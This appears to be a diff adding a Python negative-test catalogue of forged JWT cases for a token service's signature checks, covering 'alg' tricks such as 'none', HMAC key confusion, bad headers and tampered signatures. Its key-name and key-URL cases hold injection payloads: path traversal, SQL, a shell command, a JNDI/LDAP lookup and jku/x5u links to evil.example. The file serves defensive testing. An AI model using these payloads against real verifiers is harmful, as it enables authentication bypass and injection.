@@ -1,0 +1,219 @@
+"""What a header and a signature must not get away with."""
+
+from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
+
+from authn.attack_kit import (
+    ABSENT,
+    AUDIENCE,
+    Attack,
+    by_hmac,
+    by_stranger,
+    headers,
+    public,
+    resigned,
+    unsigned,
+)
+
+ALGORITHMS = [
+    *headers(
+        ("algorithm", "key", "signature"),
+        says_none={"alg": "none"},
+        says_None={"alg": "None"},
+        says_NONE={"alg": "NONE"},
+        says_nOnE={"alg": "nOnE"},
+        has_an_empty_algorithm={"alg": ""},
+        has_no_algorithm={"alg": ABSENT},
+        has_null_for_an_algorithm={"alg": None},
+        has_a_number_for_an_algorithm={"alg": 256},
+        says_HS512={"alg": "HS512"},
+        says_PS512={"alg": "PS512"},
+        says_ES256K={"alg": "ES256K"},
+        says_dir={"alg": "dir"},
+        says_RSA1_5={"alg": "RSA1_5"},
+    ),
+    *headers(
+        ("algorithm", "key", "signature"),
+        has_a_list_for_an_algorithm={"alg": ["HS256"]},
+        has_an_object_for_an_algorithm={"alg": {"alg": "HS256"}},
+    ),
+    Attack(
+        "header in small letters",
+        lambda mode: mode.sign(mode.header(alg=mode.algorithm.lower())),
+        ("algorithm", "key", "signature"),
+    ),
+    Attack(
+        "header with a blank after the algorithm",
+        lambda mode: mode.sign(mode.header(alg=mode.algorithm + " ")),
+        ("algorithm", "key", "signature"),
+    ),
+    *[
+        Attack(f"unsigned {name}", unsigned(name), ("form", "algorithm", "key", "signature"))
+        for name in ("none", "None", "NONE")
+    ],
+    Attack(
+        "unsigned in the right algorithm's name",
+        lambda mode: mode.sign().rpartition(".")[0] + ".",
+        ("form", "signature"),
+    ),
+]
+
+TYPES = headers(
+    ("type",),
+    of_a_logout_token={"typ": "logout+jwt"},
+    of_a_DPoP_proof={"typ": "dpop+jwt"},
+    of_a_security_event={"typ": "secevent+jwt"},
+    of_a_key_binding={"typ": "kb+jwt"},
+    of_an_authorization_request={"typ": "oauth-authz-req+jwt"},
+    of_our_access_token={"typ": "tokensvc-access+jwt"},
+    of_our_lease={"typ": "tokensvc-lease+jwt"},
+    of_an_encrypted_token={"typ": "JWE"},
+    of_a_type_that_is_empty={"typ": ""},
+    of_a_type_that_is_null={"typ": None},
+    of_a_type_that_is_a_number={"typ": 7},
+    of_a_type_that_is_a_list={"typ": ["JWT"]},
+    of_a_type_with_a_blank={"typ": "JWT "},
+    of_a_type_that_begins_alike={"typ": "JWTX"},
+)
+
+EXTENSIONS = [
+    *headers(
+        ("extensions",),
+        with_a_null_extension={"b64": None},
+        with_an_encoded_payload={"b64": True},
+        that_is_compressed={"zip": "DEF"},
+        that_is_encrypted={"enc": "A128GCM"},
+    ),
+    *headers(
+        ("extensions", "signature"),
+        with_a_critical_extension={"crit": ["exp"], "exp": 1},
+        with_an_unknown_extension={"crit": ["made-up"], "made-up": 1},
+        with_an_empty_list_of_extensions={"crit": []},
+        with_extensions_that_are_text={"crit": "exp"},
+        with_extensions_that_are_null={"crit": None},
+        with_an_unencoded_payload={"b64": False, "crit": ["b64"]},
+        with_an_unencoded_payload_in_secret={"b64": False},
+    ),
+]
+
+KEY_NAMES = [
+    *headers(
+        ("kid",),
+        naming_an_empty_key={"kid": ""},
+        naming_a_long_key={"kid": "k" * 129},
+        naming_a_key_with_a_line_break={"kid": "a\r\nX-Admin: 1"},
+        naming_a_key_with_a_null_byte={"kid": "a\x00b"},
+        naming_a_key_in_another_alphabet={"kid": "ключ"},
+    ),
+    *headers(
+        ("kid", "signature"),
+        naming_a_key_by_number={"kid": 7},
+        naming_a_key_by_list={"kid": ["a"]},
+        naming_a_key_by_object={"kid": {"a": 1}},
+        naming_a_key_by_null={"kid": None},
+        naming_a_key_by_true={"kid": True},
+    ),
+    *[
+        Attack(f"key name {name}", by_stranger(kid=kid), ("signature",))
+        for name, kid in {
+            "that is a path": "../../../../dev/null",
+            "that is a device": "/proc/sys/kernel/randomize_va_space",
+            "that is SQL": "x' UNION SELECT 'secret' --",
+            "that is a command": "key|sleep 10",
+            "that is a URL": "https://evil.example/key.pem",
+            "that is a template": "${jndi:ldap://evil.example/a}",
+        }.items()
+    ],
+]
+
+OFFERED_KEYS = [
+    Attack(f"key offered as {name}", by_stranger(**header), ("signature",))
+    for name, header in {
+        "nothing": {},
+        "jwk": {"jwk": public},
+        "jku": {"jku": "https://evil.example/jwks.json"},
+        "x5u": {"x5u": "https://evil.example/cert.pem"},
+        "x5c": {"x5c": ["MIIB"]},
+        "x5t": {"x5t": "AAAA", "x5t#S256": "AAAA"},
+        "jku of the issuer's look": {"jku": "https://shop.example@evil.example/jwks.json"},
+        "jku in a file": {"jku": "file:///etc/passwd"},
+        "an empty jwk": {"jwk": {}},
+        "a null jwk": {"jwk": None},
+    }.items()
+]
+
+FAMILIES = [
+    Attack(f"stranger's {algorithm}", by_stranger(algorithm), ("algorithm", "key", "signature"))
+    for algorithm in ("ES384", "PS384", "HS384")
+] + [
+    Attack(f"HMAC by {name}", by_hmac(secret), ("algorithm", "key", "signature"))
+    for name, secret in {
+        "nothing": b"",
+        "a blank": b" ",
+        "“secret”": b"secret",
+        "the example of jwt.io": b"your-256-bit-secret",
+        "null bytes": b"\x00" * 32,
+        "the public key, first form": lambda mode: mode.public_texts[0],
+        "the public key, second form": lambda mode: mode.public_texts[1],
+        "the public key, third form": lambda mode: mode.public_texts[2],
+        "the public key without its last line break": lambda mode: mode.public_texts[0].rstrip(),
+        "the issuer's name": lambda mode: mode.issuer.encode(),
+        "the audience": AUDIENCE.encode(),
+    }.items()
+]
+
+SIGNATURES = [
+    Attack(f"signature {name}", resigned(change), ("signature",))
+    for name, change in {
+        "of null bytes": lambda raw: bytes(len(raw)),
+        "of 64 null bytes": lambda _: bytes(64),
+        "of one null byte": lambda _: b"\x00",
+        "of ones": lambda raw: b"\xff" * len(raw),
+        "without its last byte": lambda raw: raw[:-1],
+        "without its first byte": lambda raw: raw[1:],
+        "without its second half": lambda raw: raw[: len(raw) // 2],
+        "with a byte more": lambda raw: raw + b"\x00",
+        "with a byte before": lambda raw: b"\x00" + raw,
+        "twice": lambda raw: raw * 2,
+        "backwards": lambda raw: raw[::-1],
+        "with its halves changed about": lambda raw: raw[len(raw) // 2 :] + raw[: len(raw) // 2],
+        "with its first bit changed": lambda raw: bytes([raw[0] ^ 128]) + raw[1:],
+        "with its last bit changed": lambda raw: raw[:-1] + bytes([raw[-1] ^ 1]),
+        "in DER": lambda raw: encode_dss_signature(
+            int.from_bytes(raw[: len(raw) // 2]), int.from_bytes(raw[len(raw) // 2 :])
+        ),
+        "in hexadecimal": lambda raw: raw.hex().encode(),
+        "that is text": lambda _: b"valid",
+        "r and s of one": lambda _: (1).to_bytes(32) * 2,
+    }.items()
+] + [
+    Attack(
+        "signature of other claims",
+        lambda mode: ".".join(
+            (
+                *mode.sign(claims=mode.claims(sub="eve")).split(".")[:2],
+                mode.sign().split(".")[2],
+            )
+        ),
+        ("signature",),
+    ),
+    Attack(
+        "signature of another header",
+        lambda mode: ".".join(
+            (
+                mode.sign(mode.header(cty="x")).split(".")[0],
+                *mode.sign().split(".")[1:],
+            )
+        ),
+        ("signature",),
+    ),
+]
+
+ON_SIGNATURES = [
+    *ALGORITHMS,
+    *TYPES,
+    *EXTENSIONS,
+    *KEY_NAMES,
+    *OFFERED_KEYS,
+    *FAMILIES,
+    *SIGNATURES,
+]
